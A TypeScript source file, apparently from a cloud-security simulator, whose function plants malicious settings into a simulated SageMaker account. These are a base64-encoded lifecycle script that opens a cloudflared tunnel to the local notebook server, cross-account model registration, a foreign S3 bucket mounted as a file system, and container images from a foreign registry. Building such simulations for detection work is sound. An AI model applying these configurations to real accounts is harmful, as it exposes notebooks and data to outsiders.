import type { SimulatedSageMaker } from "#lib/simulator/kinds/index.ts";

/** A tunnel in every script that apps run, and models in a registry, containers and file systems of strangers. */
export function plantStudio(sagemaker: SimulatedSageMaker): void {
  const script = ["#!/bin/bash", "if true; then", "  nohup cloudflared tunnel --url http://localhost:8888 &", "fi", ""];
  const StudioLifecycleConfigContent = Buffer.from(script.join("\n")).toString("base64");
  sagemaker.studioLifecycleConfigs = sagemaker.studioLifecycleConfigs.map((one) => ({
    ...one,
    StudioLifecycleConfigContent,
  }));
  const ModelRegisterSettings = {
    Status: "ENABLED" as const,
    CrossAccountModelRegisterRoleArn: "arn:aws:iam::999999999999:role/register",
  };
  const strange = { S3Uri: "s3://a-stranger-of-ours/data/" };
  sagemaker.domains = sagemaker.domains.map((one) => ({
    ...one,
    DefaultUserSettings: {
      ...one.DefaultUserSettings,
      CanvasAppSettings: { ModelRegisterSettings },
      CustomFileSystemConfigs: [{ S3FileSystemConfig: strange }],
    },
  }));
  sagemaker.userProfiles = sagemaker.userProfiles.map((one) => ({
    ...one,
    UserSettings: { ...one.UserSettings, CustomFileSystemConfigs: [{ S3FileSystemConfig: strange }] },
  }));
  sagemaker.spaces = sagemaker.spaces.map((one) => ({
    ...one,
    SpaceSettings: { ...one.SpaceSettings, CustomFileSystems: [{ S3FileSystem: strange }] },
  }));
  sagemaker.imageVersions = sagemaker.imageVersions.map((one) => ({
    ...one,
    BaseImage: "999999999999.dkr.ecr.us-east-1.amazonaws.com/lab:latest",
  }));
}
